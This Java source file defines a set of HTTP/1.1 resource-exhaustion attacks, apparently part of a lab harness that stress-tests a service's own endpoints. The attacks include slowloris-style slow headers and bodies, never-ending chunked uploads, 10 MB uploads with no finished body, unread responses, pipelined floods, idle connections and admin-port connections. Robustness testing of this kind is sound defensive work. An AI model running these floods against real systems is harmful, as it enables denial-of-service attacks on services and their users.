package dev.semel.attack;

import static dev.semel.attack.lab.Requests.HOST;
import static dev.semel.attack.lab.Requests.freshKey;
import static dev.semel.attack.lab.Requests.key;

import dev.semel.attack.lab.Wire;
import java.io.IOException;
import java.util.List;
import java.util.function.Supplier;

/** Floods of HTTP/1. */
final class ExhaustionAttacks {

    private static final int TEN_MEGABYTES = 10_000_000;
    private static final byte[] ZEROS = new byte[64 << 10];
    private static final String MALLORY = "Authorization: Bearer mallory\r\n";

    private ExhaustionAttacks() {}

    static List<Attack> all() {
        Listing list = new Listing(Group.EXHAUSTION);
        bodies(list);
        streams(list);
        keys(list);
        connections(list);
        return list.all();
    }

    private static void bodies(Listing list) {
        Flood.Stream nobody = upload(() -> freshKey("nobody"), "Expect: 100-continue\r\n", TEN_MEGABYTES - 1);
        list.flood("bodies-without-a-caller", "14 bodies of 10 MB without a caller", 14, nobody);
        Flood.Stream unfinished = upload(() -> MALLORY + freshKey("unfinished"), "", TEN_MEGABYTES - 1);
        list.flood("unfinished-bodies", "14 bodies of 10 MB of one caller that never end", 14, unfinished);
        Flood.Stream whole = upload(() -> MALLORY + freshKey("upload"), "", TEN_MEGABYTES);
        list.flood("uploads", "40 uploads of 10 MB", 40, whole);
        list.flood("uploads-without-a-length", "40 chunked bodies without an end", 40, (target, held) -> {
            Wire wire = held.keep(target.connect()).send(chunked("chunked"));
            String chunk = "10000\r\n" + "x".repeat(0x10000) + "\r\n";
            for (int i = 0; i < 150 && !held.isOver(); i++) {
                wire.send(chunk);
            }
            held.rest();
        });
        list.flood("slow-bodies", "200 bodies, five bytes a second", 200, (target, held) -> {
            String head = post("/charges", MALLORY + freshKey("slow")) + "Content-Length: 100000\r\n\r\n";
            trickle(held.keep(target.connect()).send(head), held, "x");
        });
        list.flood("tiny-chunks", "8 bodies in chunks of one byte", 8, (target, held) -> {
            Wire wire = held.keep(target.connect()).send(chunked("tiny"));
            while (!held.isOver()) {
                wire.send("1\r\nx\r\n".repeat(500));
                Thread.sleep(20);
            }
        });
    }

    private static void streams(Listing list) {
        String upgrade = "Connection: Upgrade\r\nUpgrade: websocket\r\n";
        list.flood(
                "event-streams", "300 event streams without a caller", 300, holding(() -> get("/search/events", "")));
        list.flood("tunnels", "300 tunnels without a caller", 300, holding(() -> get("/search/tunnel", upgrade)));
        list.flood("slow-readers", "300 readers of 8 MB that do not read", 300, (target, held) -> {
            held.keep(target.connectToReadLittle()).send(get("/search/big", ""));
            held.rest();
        });
        list.flood("slow-passes", "300 slow requests without a key", 300, holding(() -> get("/search/hold", "")));
        list.flood("unread-replays", "900 replays of 900 KB that are not read", 300, (target, held) -> {
            Wire wire = held.keep(target.connectToReadLittle());
            String request = small("/charges/kept", MALLORY + key("unread-replays"));
            wire.send(request);
            Thread.sleep(300);
            wire.send(request.repeat(2));
            held.rest();
        });
    }

    private static void keys(Listing list) {
        Supplier<String> slow = () -> small("/charges/hold", MALLORY + freshKey("slow-key"));
        Supplier<String> many = () -> small("/charges", MALLORY + freshKey("many"));
        Supplier<String> broken = () -> small("/charges/break", MALLORY + freshKey("broken"));
        Supplier<String> nobody = () -> small("/charges", freshKey("nobody"));
        list.flood("slow-keys", "300 keys of one caller whose requests take 8 s", 300, holding(slow));
        list.flood("many-keys", "new keys of one caller, 1,000 a second", 8, repeating(8, many));
        list.flood("broken-requests", "keys of one caller whose outcome gets unknown", 4, repeating(20, broken));
        list.flood("no-caller-flood", "requests without a caller, 1,000 a second", 8, repeating(8, nobody));
    }

    private static void connections(Listing list) {
        list.flood("idle-connections", "800 connections that say nothing", 8, (target, held) -> {
            for (int i = 0; i < 100 && !held.isOver(); i++) {
                held.keep(target.plain());
            }
            held.rest();
        });
        list.flood("slow-heads", "300 heads, five bytes a second", 300, (target, held) -> {
            Wire wire = held.keep(target.connect());
            wire.send("GET /search HTTP/1.1\r\n" + HOST + "X-A: ");
            trickle(wire, held, "a");
        });
        String head = get("/search", "X-A: b\r\n".repeat(1_800));
        list.flood("large-heads", "heads of 15 KB, 400 a second", 4, repeating(10, () -> head));
        list.flood("pipelined", "endless requests on 8 connections, no answer is read", 8, (target, held) -> {
            Wire wire = held.keep(target.connect());
            String many = get("/search", "").repeat(100);
            while (!held.isOver()) {
                wire.send(many);
                Thread.sleep(100);
            }
        });
        list.flood("admin-connections", "400 connections to the admin address", 8, (target, held) -> {
            for (int i = 0; i < 50 && !held.isOver() && target.adminPort() != 0; i++) {
                held.keep(target.connectAdmin()).send("GET /api/keys HTTP/1.1\r\nHost: ");
            }
            held.rest();
        });
    }

    /** Sends a head for 10 MB, and so many bytes of the body. */
    private static Flood.Stream upload(Supplier<String> caller, String lines, int bytes) {
        return (target, held) -> {
            Wire wire = held.keep(target.connect());
            wire.send(post("/charges", caller.get()) + "Content-Length: " + TEN_MEGABYTES + "\r\n" + lines + "\r\n");
            for (int left = bytes; left > 0; left -= ZEROS.length) {
                wire.send(left >= ZEROS.length ? ZEROS : new byte[left]);
            }
            held.rest();
        };
    }

    private static void trickle(Wire wire, HeldConnections held, String piece)
            throws IOException, InterruptedException {
        while (!held.isOver()) {
            wire.send(piece);
            Thread.sleep(200);
        }
    }

    private static String post(String path, String lines) {
        return "POST " + path + " HTTP/1.1\r\n" + HOST + lines;
    }

    private static String small(String path, String lines) {
        return post(path, lines) + "Content-Length: 2\r\n\r\n{}";
    }

    private static String chunked(String name) {
        return post("/charges", MALLORY + freshKey(name)) + "Transfer-Encoding: chunked\r\n\r\n";
    }

    private static String get(String path, String lines) {
        return "GET " + path + " HTTP/1.1\r\n" + HOST + lines + "\r\n";
    }

    /** Sends a request, and waits. */
    private static Flood.Stream holding(Supplier<String> request) {
        return (target, held) -> {
            held.keep(target.connect()).send(request.get());
            held.rest();
        };
    }

    /** Sends one request after the other, with a pause after each answer. */
    private static Flood.Stream repeating(long pauseMillis, Supplier<String> request) {
        return (target, held) -> {
            Wire wire = held.keep(target.connect());
            while (!held.isOver()) {
                wire.send(request.get()).answer();
                Thread.sleep(pauseMillis);
            }
        };
    }
}
